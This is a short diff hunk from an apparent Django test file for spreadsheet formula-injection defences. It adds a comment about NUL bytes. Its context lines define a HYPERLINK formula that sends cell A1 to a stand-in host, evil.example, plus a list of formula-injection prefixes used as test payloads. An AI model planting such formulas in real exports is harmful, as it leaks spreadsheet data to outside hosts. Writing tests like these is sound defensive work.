@@ -22,6 +22,7 @@ from flows.tasks import flow_run
 pytestmark = pytest.mark.django_db(transaction=True)
 
 EVIL_SO = '=HYPERLINK("http://evil.example/?leak="&A1,"x")'
+# (NUL, also neutralised, cannot be stored by PostgreSQL: tests/core/test_exports.py has it)
 PAYLOADS = ["=1+2", "+1+2", "-1+2", "@SUM(A1)", "\t=1+2", "\r=1+2"]
 
 
